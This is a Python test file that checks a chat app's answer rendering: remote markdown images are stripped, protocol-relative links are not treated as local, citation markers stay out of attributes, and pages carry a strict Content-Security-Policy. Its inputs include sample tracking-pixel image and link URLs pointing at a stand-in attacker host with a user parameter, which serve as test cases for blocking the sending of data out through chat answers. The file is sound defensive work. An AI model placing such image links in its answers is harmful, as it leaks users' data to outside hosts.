"""Chat answers never load remote images; citation markers never land inside attributes; every page has a CSP."""
from __future__ import annotations

import pytest

from chat.web.presenters import answer_present, markdown_safe


def test_remote_images_are_dropped_keeping_their_alt_text():
    html = markdown_safe("Look ![tracking pixel](https://evil.example/p.png?u=alice) here "
                         "and ![x](//evil.example/y.png) and ![z](/\\evil.example/z.png).")
    assert "<img" not in html and "evil.example" not in html
    assert "tracking pixel" in html


def test_local_page_images_stay():
    html = markdown_safe("![page 2](/api/v1/knowledge/pages/2/image.png)")
    assert '<img alt="page 2" src="/api/v1/knowledge/pages/2/image.png"' in html


def test_protocol_relative_links_are_not_treated_as_local():
    html = markdown_safe("[click](//evil.example/x)")
    assert 'href="//evil.example/x"' not in html


def test_citation_markers_only_in_text_never_in_attributes_or_links():
    answer = {"answer": 'See [the guide [1]](https://example.com/a[1]b "title [1]") and also [1].',
              "message_id": 7, "citations": [{"n": 1, "document": "Guide", "page": 1, "page_id": 3, "quote": "q"}]}
    html = answer_present(answer)["answer_html"]
    assert 'href="https://example.com/a[1]b"' in html and 'title="title [1]"' in html
    assert html.count('class="cite-marker"') == 1  # the one in plain text, not the one inside the link
    assert "<a" not in html.split('href="https://example.com/a[1]b"')[1].split("</a>")[0]


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/login/", "/api/docs/"])
def test_pages_carry_a_content_security_policy(client, url):
    response = client.get(url)
    csp = response["Content-Security-Policy"]
    assert "script-src 'self'" in csp and "img-src 'self' data:" in csp and "frame-ancestors 'none'" in csp
    assert "unsafe-inline" not in csp.split("script-src")[1].split(";")[0]


@pytest.mark.django_db
def test_swagger_ui_has_no_inline_script(alice_web):
    page = alice_web.get("/api/docs/").content.decode()
    assert "<script>" not in page.replace(" ", "")
